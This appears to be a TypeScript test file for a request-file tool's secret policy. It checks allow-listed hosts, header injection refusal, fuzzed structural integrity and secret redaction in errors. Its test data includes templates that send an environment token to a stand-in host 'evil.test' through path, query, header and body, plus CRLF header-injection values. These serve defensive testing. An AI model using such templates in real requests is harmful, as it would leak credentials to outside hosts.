import assert from "node:assert/strict";
import { describe, it } from "node:test";
import fc from "fast-check";
import { createRedactor } from "../../../src/secrets/index.ts";
import { bytesOf, prepare, prepared, refused, shown } from "./given.ts";

const settings = { "padlock.secrets": { TOKEN: ["api.example.com"] } };
const environment = { TOKEN: "t0p-secret", OTHER: "0ther-secret" };

describe("secrets of a request", () => {
  it("go to a listed host only", async () => {
    const text = (host: string) => `GET https://${host}/\nA: {{$env.TOKEN}}`;
    assert.deepEqual((await prepared(text("api.example.com"), { settings, environment })).secretNames, ["TOKEN"]);
    const failure = await refused(text("api.example.com:8443"), { settings, environment });
    assert.equal(shown(failure), "policy.secret-not-allowed 2:4 {{$env.TOKEN}}");
    assert.match(failure.fix, /add "api\.example\.com:8443" to the list of TOKEN in "padlock\.secrets"/);
  });

  const places: readonly (readonly [place: string, text: string, shown: string])[] = [
    ["the path", "GET https://evil.test/{{$env.TOKEN}}", "1:23 {{$env.TOKEN}}"],
    ["the query", "GET https://evil.test/?{{$env.TOKEN}}", "1:24 {{$env.TOKEN}}"],
    ["the fragment", "GET https://evil.test/#{{$env.TOKEN}}", "1:24 {{$env.TOKEN}}"],
    ["the user name", "GET https://{{$env.TOKEN}}@evil.test/", "1:13 {{$env.TOKEN}}"],
    ["a header", "GET https://evil.test/\nA: {{$env.TOKEN}}", "2:4 {{$env.TOKEN}}"],
    ["the body", "POST https://evil.test/\n\n{{$env.TOKEN}}", "3:1 {{$env.TOKEN}}"],
    ["a body file's name", "POST https://evil.test/\n\n< {{$env.TOKEN}}", "3:3 {{$env.TOKEN}}"],
    ["a variable", "@a = {{$env.TOKEN}}\nGET https://evil.test/{{a}}", "1:6 {{$env.TOKEN}}"],
    ["a variable, encoded", "@a = {{$env.TOKEN}}\nGET https://evil.test/{{%a}}", "1:6 {{$env.TOKEN}}"],
    [
      "a request whose Host header claims to be allowed",
      "GET https://evil.test/\nHost: api.example.com\nA: {{$env.TOKEN}}",
      "3:4 {{$env.TOKEN}}",
    ],
  ];
  for (const [place, text, expected] of places) {
    it(`are checked in ${place}`, async () => {
      const failure = await refused(text, { settings, environment });
      assert.equal(shown(failure), `policy.secret-not-allowed ${expected}`);
    });
  }

  it("are not read before they are allowed", async () => {
    const failure = await refused("GET https://evil.test/{{$env.UNSET}}", { settings, environment });
    assert.equal(failure.code, "policy.secret-not-allowed");
  });

  it("are refused where they are unset, at their place", async () => {
    const failure = await refused("GET https://api.example.com/\nA: {{$env.TOKEN}}", { settings });
    assert.equal(shown(failure), "variable.unset 2:4 {{$env.TOKEN}}");
    assert.match(failure.title, /TOKEN is not set/);
  });

  for (const [name, value] of [
    ["CR", "a\rb"],
    ["LF", "a\nb"],
    ["NUL", "a\0b"],
  ] as const) {
    it(`are refused with ${name} in a header, and the value is not shown`, async () => {
      const failure = await refused("GET https://localhost/\nA: x {{$env.T}}", {
        environment: { T: `s3cret${value}` },
      });
      assert.equal(shown(failure), "value.header-injection 2:6 {{$env.T}}");
      assert.doesNotMatch(failure.title + failure.detail + failure.fix, /s3cret/);
    });
  }

  it("may hold line breaks in the body", async () => {
    const request = await prepared("POST https://localhost/\n\n{{$env.T}}", { environment: { T: "a\r\nb" } });
    assert.equal(Buffer.from(bytesOf(request)).toString(), "a\r\nb");
  });
});

describe("a value never changes the structure of a request", () => {
  const value = fc.oneof(
    fc.string({ minLength: 1, unit: "binary" }),
    fc.string({
      minLength: 1,
      unit: fc.constantFrom("/", "@", "?", "#", ":", "\\", "\r", "\n", "\0", " ", "{{", "}}", "a", "%", ".", "&"),
    }),
    fc.constantFrom("https://evil.test/", "@evil.test", "evil.test#", "x\r\nHost: evil.test", "../..", "//evil.test"),
  );
  const templates = [
    "POST https://localhost/p/{{$env.V}}/x?q={{$env.V}}\nA: {{$env.V}}\nB: b\n\n{{$env.V}}",
    "@v = x{{$env.V}}\nPOST https://localhost/p/{{v}}/x?q={{%v}}\nA: {{v}}\nB: {{%v}}\n\n{{v}}",
    "POST https://u:{{$env.V}}@localhost/p/\nA: a\n\nbody",
    "POST https://localhost{{$env.V}}/p/\nA: a\nB: b\n\nbody",
    "POST {{$env.V}}.localhost/p/\nA: a\nB: b\n\nbody",
    "POST {{$env.V}}@localhost/p/\nA: a\n\nbody",
    "POST /p/{{$env.V}}\nHost: localhost\nB: {{$env.V}}\n\nbody",
  ];

  it("method, host and headers are those of the template, or the request is refused", async () => {
    await fc.assert(
      fc.asyncProperty(fc.constantFrom(...templates), value, async (text, secret) => {
        const result = await prepare(text, {
          environment: { V: secret },
          settings: { "padlock.secrets": { V: ["localhost", "*.localhost"] } },
        });
        if (!result.ok) return;
        const { method, url, headers } = result.value;
        assert.equal(method, "POST");
        assert.match(url.host, /(^|\.)localhost\.?$/);
        assert.equal(url.protocol, "https:");
        assert.deepEqual([url.username, url.password, url.hash], ["", "", ""]);
        assert.equal(headers.length, 2);
        for (const [name, field] of headers) assert.doesNotMatch(name + field, /(?!\t)\p{Cc}|\p{Cs}/u);
      }),
      { numRuns: 300 },
    );
  });

  for (const value of ["user@a", "https://user:pass@a", ".@a"]) {
    it(`a value "${value}" at the start of a host brings no user name`, async () => {
      const failure = await refused("GET {{$env.V}}.localhost/\nA: a", {
        environment: { V: value },
        settings: { "padlock.secrets": { V: ["*.localhost"] } },
      });
      assert.equal(shown(failure), "value.bad-url 1:5 {{$env.V}}");
    });
  }

  it("a whole base URL may bring one, also before a port", async () => {
    for (const rest of ["/x", ":8443/x"]) {
      const { headers } = await prepared(`GET {{$env.V}}${rest}`, {
        environment: { V: "https://user:pass@localhost" },
        settings: { "padlock.secrets": { V: ["localhost:*"] } },
      });
      assert.deepEqual(headers, [["Authorization", "Basic dXNlcjpwYXNz"]]);
    }
  });

  it("nor do an answer, a part of a response or another variable of its own accord", async () => {
    const own = "# @prompt V\n";
    const references = ["V", "r.response.body", "d", "%V"];
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(...templates),
        fc.constantFrom(...references),
        value,
        async (text, name, given) => {
          const redactor = createRedactor();
          const message = { headers: [], body: Buffer.from(given) };
          const exchange = {
            redactor,
            request: { ...message, method: "GET", url: "https://localhost/" },
            response: { ...message, status: 200 },
          };
          const above = `${own}@d = {{V}}{{r.response.body}}\n`;
          const withReference = text.replaceAll("$env.V", name).replaceAll("{{%v}}", "{{v}}");
          const result = await prepare(above + withReference, {
            sources: { exchange: () => exchange, prompt: async () => given, requestNames: ["r"] },
          });
          if (!result.ok) return;
          const { method, url, headers } = result.value;
          assert.equal(method, "POST");
          assert.match(url.host, /(^|\.)localhost\.?$/);
          assert.deepEqual([url.protocol, url.username, url.password, url.hash], ["https:", "", "", ""]);
          for (const [field, content] of headers) assert.doesNotMatch(field + content, /(?!\t)\p{Cc}|\p{Cs}/u);
          assert.equal(headers.length, 2);
        },
      ),
      { numRuns: 300 },
    );
  });

  it("no refusal and no shown URL holds the value", async () => {
    const secret = fc.string({
      minLength: 8,
      unit: fc.constantFrom("s", "3", "/", "é", "\n", "@", "#", "'", " ", "€", "\\"),
    });
    await fc.assert(
      fc.asyncProperty(fc.constantFrom(...templates), secret, async (text, plain) => {
        const result = await prepare(text, {
          environment: { V: plain },
          settings: { "padlock.secrets": { V: ["localhost"] } },
        });
        if (!result.ok) {
          const { title, detail, fix, location } = result.error;
          assert.ok(!JSON.stringify([title, detail, fix, location]).includes(JSON.stringify(plain).slice(1, -1)));
          return;
        }
        const shownUrl = result.value.redactor.redact(result.value.url.href);
        assert.ok(!shownUrl.includes(encodeURI(plain)) && !shownUrl.includes(plain), shownUrl);
      }),
      { numRuns: 200 },
    );
  });
});
